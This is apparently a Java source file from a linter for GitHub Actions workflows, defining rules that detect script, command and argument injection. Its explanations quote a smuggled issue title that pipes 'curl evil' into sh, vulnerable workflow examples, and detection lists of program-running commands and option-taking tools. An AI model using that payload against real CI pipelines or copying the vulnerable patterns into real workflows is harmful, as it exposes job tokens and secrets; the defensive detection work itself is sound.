package dev.slipway.lint;

import static dev.slipway.lint.Security.rule;
import static dev.slipway.lint.Security.workflow;

import dev.slipway.workflow.YamlNode;
import dev.slipway.workflow.expression.Shape;
import java.util.List;
import java.util.Locale;
import org.jspecify.annotations.Nullable;

/** Rules about texts that become programs. */
final class InjectionRules {
  private static final String INTO_ENV =
      "put it into a variable under 'env:' and use that in the script, in quotes";

  private InjectionRules() {}

  static List<Rule> all() {
    return List.of(OUTSIDERS, INSIDERS, ANY, EXECUTED, ARGUMENT);
  }

  private static final Rule OUTSIDERS =
      rule(
              "template-injection",
              Severity.ERROR,
              Profile.DEFAULT,
              "Text that outsiders choose becomes part of a script",
              "zizmor:template-injection",
              "actionlint:expression")
          .why(
              """
              An expression in `run:` is replaced before the shell sees the script, so a title such as `"; curl evil | sh; "`
              is executed with the job's token and secrets. A variable is data to the shell, not program. The text is followed
              through variables, outputs of steps and jobs, the matrix and local actions and workflows.
              """)
          .example(
              workflow("issues", "      - run: echo \"${{ github.event.issue.title }}\"\n"),
              workflow(
                  "issues",
                  "      - run: echo \"$TITLE\"\n"
                      + "        env:\n"
                      + "          TITLE: ${{ github.event.issue.title }}\n"))
          .check(InjectionRules::outsiders);

  private static void outsiders(LintFile file, Found found) {
    for (ExpressionUse use : file.expressions()) {
      StepNode step = use.step();
      boolean sink = step != null && ScriptSinks.is(step, use);
      if (!sink || step == null) {
        handedOn(file, use, found);
        continue;
      }
      Origin origin = literal(file, step, use) ? null : file.taint().of(use);
      if (origin != null && origin.anybody()) {
        found.at(
            use.scalar(),
            use.start(),
            use.end(),
            origin.written() + " is text that outsiders choose, and it becomes part of this script",
            INTO_ENV,
            found.full() ? null : InjectionFix.of(file, step, use));
      }
    }
  }

  /** Whether it gives a literal of JavaScript, in which the text cannot be program. */
  private static boolean literal(LintFile file, StepNode step, ExpressionUse use) {
    if (!step.uses("actions/github-script")) {
      return false;
    }
    String text = use.scalar().text();
    boolean quoted = use.start() > 0 && "'\"`".indexOf(text.charAt(use.start() - 1)) >= 0;
    boolean json =
        use.expression().shape() instanceof Shape.Call call && call.function().equals("tojson");
    if (json || quoted) {
      return json && !quoted;
    }
    Origin origin = file.taint().of(use);
    return origin != null && origin.source().endsWith(UntrustedOutputs.AS_JSON);
  }

  /** An input of a local action or workflow that puts it into a script. */
  private static void handedOn(LintFile file, ExpressionUse use, Found found) {
    List<String> path = use.path();
    JobNode job = use.job();
    if (path.size() < 2 || !path.get(path.size() - 2).equals("with")) {
      return;
    }
    String uses =
        use.step() != null ? use.step().text("uses") : job == null ? "" : job.text("uses");
    if (!Security.local(uses)) {
      return;
    }
    Origin origin = file.taint().of(use);
    if (origin == null || !origin.anybody()) {
      return;
    }
    Callee callee = file.taint().callee(uses);
    String sink = callee == null ? null : callee.sink(use.key());
    if (sink != null) {
      found.at(
          use,
          origin.written()
              + " is text that outsiders choose, and '"
              + uses
              + "' makes it part of a script at "
              + sink,
          "use the input there through a variable under 'env:', in quotes");
    }
  }

  private static final Rule INSIDERS =
      rule(
              "insider-injection",
              Severity.WARNING,
              Profile.STRICT,
              "Text of those who start or call the workflow becomes part of a script",
              "zizmor:template-injection")
          .why(
              """
              Inputs, names of branches and tags, and texts of releases come from people with some right in the repository, and
              still an odd character breaks the script, and a right to start a workflow is less than the right to run anything
              with its secrets.
              """)
          .example(
              "on:\n"
                  + "  workflow_dispatch:\n"
                  + "    inputs:\n"
                  + "      version:\n"
                  + "        type: string\n"
                  + "permissions: {}\n"
                  + "jobs:\n"
                  + "  test:\n"
                  + "    runs-on: ubuntu-latest\n"
                  + "    steps:\n"
                  + "      - run: ./release \"${{ inputs.version }}\"\n",
              "on:\n"
                  + "  workflow_dispatch:\n"
                  + "    inputs:\n"
                  + "      version:\n"
                  + "        type: string\n"
                  + "permissions: {}\n"
                  + "jobs:\n"
                  + "  test:\n"
                  + "    runs-on: ubuntu-latest\n"
                  + "    steps:\n"
                  + "      - run: ./release \"$VERSION\"\n"
                  + "        env:\n"
                  + "          VERSION: ${{ inputs.version }}\n")
          .check(InjectionRules::insiders);

  private static void insiders(LintFile file, Found found) {
    for (ExpressionUse use : file.expressions()) {
      StepNode step = use.step();
      if (step == null || found.full() || !ScriptSinks.is(step, use)) {
        continue;
      }
      Origin origin = file.taint().of(use);
      if (origin == null || origin.chooser() != Chooser.INSIDER) {
        continue;
      }
      boolean called = file.action() || Security.onlyCalled(file);
      place(
          file,
          found,
          use,
          Severity.WARNING,
          called ? Confidence.LOW : Confidence.MEDIUM,
          origin.written()
              + (called
                  ? " is whatever the caller passes, and it becomes part of this script"
                  : " is text that somebody chooses, and it becomes part of this script"),
          INTO_ENV,
          InjectionFix.of(file, step, use));
    }
  }

  private static void place(
      LintFile file,
      Found found,
      ExpressionUse use,
      Severity severity,
      Confidence confidence,
      String message,
      String hint,
      @Nullable Fix fix) {
    found.at(
        severity,
        confidence,
        file.index(use.scalar(), use.start()),
        file.index(use.scalar(), use.end() - 1) + 1,
        message,
        hint,
        List.of("zizmor:template-injection"),
        fix);
  }

  private static final Rule ANY =
      rule(
              "expression-in-script",
              Severity.STYLE,
              Profile.PEDANTIC,
              "An expression stands in a script",
              "zizmor:template-injection")
          .why(
              """
              What is harmless today, an output or a matrix value, may come from somewhere else after the next change. Where all
              values go through variables nobody has to look.
              """)
          .example(
              workflow("push", "      - run: echo \"${{ github.sha }}\"\n"),
              workflow("push", "      - run: echo \"$GITHUB_SHA\"\n"))
          .check((file, found) -> {
            for (ExpressionUse use : file.expressions()) {
              StepNode step = use.step();
              if (step == null || found.full() || !ScriptSinks.is(step, use)) {
                continue;
              }
              Origin origin = file.taint().of(use);
              if (origin == null || origin.chooser().compareTo(Chooser.INSIDER) > 0) {
                place(
                    file,
                    found,
                    use,
                    Severity.STYLE,
                    Confidence.LOW,
                    "This expression becomes part of the script",
                    INTO_ENV,
                    InjectionFix.of(file, step, use));
              }
            }
          });

  private static final Rule EXECUTED =
      rule(
              "executed-variable",
              Severity.ERROR,
              Profile.DEFAULT,
              "A variable with text that outsiders choose is executed",
              "codeql:actions/command-injection")
          .why(
              """
              A variable is data until something reads it as a program: `eval`, `bash -c`, `python -c`, `node -e` with the
              variable in double quotes run what it says.
              """)
          .example(
              workflow(
                  "issue_comment",
                  "      - run: bash -c \"echo $BODY\"\n"
                      + "        env:\n"
                      + "          BODY: ${{ github.event.comment.body }}\n"),
              workflow(
                  "issue_comment",
                  "      - run: bash -c 'echo \"$BODY\"'\n"
                      + "        env:\n"
                      + "          BODY: ${{ github.event.comment.body }}\n"))
          .check((file, found) -> commands(file, found, InjectionRules::executes));

  private static final Rule ARGUMENT =
      rule(
              "argument-injection",
              Severity.WARNING,
              Profile.STRICT,
              "A variable with text that outsiders choose may become an option",
              "codeql:actions/argument-injection")
          .why(
              """
              Without quotes the text falls into words, and a word that begins with a dash is an option: `--upload-pack=…` of
              Git, `-o` of curl, `w` of sed run programs or write files.
              """)
          .example(
              workflow(
                  "issue_comment",
                  "      - run: git log $RANGE\n"
                      + "        env:\n"
                      + "          RANGE: ${{ github.event.comment.body }}\n"),
              workflow(
                  "issue_comment",
                  "      - run: git log -- \"$RANGE\"\n"
                      + "        env:\n"
                      + "          RANGE: ${{ github.event.comment.body }}\n"))
          .check((file, found) -> commands(file, found, InjectionRules::takesOptions));

  /** Says what is wrong when a command gets a variable; null when nothing is. */
  private interface Danger {
    @Nullable String of(ShellCommand command, String word, int index);
  }

  private static void commands(LintFile file, Found found, Danger danger) {
    for (StepNode step : file.steps()) {
      YamlNode.Scalar run = step.run();
      if (run == null || found.full() || run.text().indexOf('$') < 0 || !posix(step, file)) {
        continue;
      }
      ScriptFlow flow = file.taint().flow(step);
      if (flow == null || !holdsOutsiders(flow, run.text())) {
        continue;
      }
      for (ShellCommand command : ShellCommands.of(run.text())) {
        command(command, flow, danger, run, found);
      }
    }
  }

  private static void command(
      ShellCommand command, ScriptFlow flow, Danger danger, YamlNode.Scalar run, Found found) {
    List<String> program = command.program();
    for (int i = 0; i < program.size(); i++) {
      String word = program.get(i);
      Origin origin = word.startsWith("'") ? null : tainted(word, flow);
      String wrong = origin == null ? null : danger.of(command, word, i);
      if (wrong != null && origin != null) {
        found.at(
            run,
            command.start(),
            command.end(),
            origin.written() + " is text that outsiders choose, and " + wrong,
            "pass it as an argument or a variable, in quotes and behind '--'",
            null);
        return;
      }
    }
  }

  private static @Nullable Origin tainted(String word, ScriptFlow flow) {
    for (int at = word.indexOf('$'); at >= 0; at = word.indexOf('$', at + 1)) {
      if (at > 0 && word.charAt(at - 1) == '\\') {
        continue;
      }
      Origin origin = flow.variable(ScriptFlow.referred(word, at));
      if (origin != null && origin.anybody()) {
        return origin;
      }
    }
    return null;
  }

  /** Whether a script names a variable that holds what outsiders choose. */
  private static boolean holdsOutsiders(ScriptFlow flow, String script) {
    for (int at = script.indexOf('$'); at >= 0; at = script.indexOf('$', at + 1)) {
      Origin origin = flow.variable(ScriptFlow.referred(script, at));
      if (origin != null && origin.anybody()) {
        return true;
      }
    }
    return false;
  }

  private static boolean posix(StepNode step, LintFile file) {
    String shell = step.shell(file).toLowerCase(Locale.ROOT);
    return shell.isEmpty() || shell.startsWith("bash") || shell.startsWith("sh");
  }

  private static @Nullable String executes(ShellCommand command, String word, int index) {
    if (index == 0) {
      return word.startsWith("$") || word.startsWith("\"$") ? "it is run as a command" : null;
    }
    List<String> program = command.program();
    String before = program.get(index - 1);
    boolean code =
        switch (command.head()) {
          case "eval", "source", "." -> true;
          case "bash", "sh", "zsh", "dash", "su" -> before.startsWith("-") && before.endsWith("c");
          case "python", "python3" -> before.equals("-c");
          case "node", "perl", "ruby", "deno", "bun" -> before.equals("-e") || before.equals("-p");
          case "ssh" -> index > 1;
          default -> false;
        };
    return code ? "'" + command.head() + "' runs it as a program" : null;
  }

  private static @Nullable String takesOptions(ShellCommand command, String word, int index) {
    if (index == 0 || !word.startsWith("$") || command.program().contains("--")) {
      return null;
    }
    return switch (command.head()) {
      case "git", "curl", "wget", "tar", "find", "rsync", "zip", "sed", "awk", "gh", "npm", "pip" ->
          "'" + command.head() + "' may take its words for options";
      default -> null;
    };
  }
}
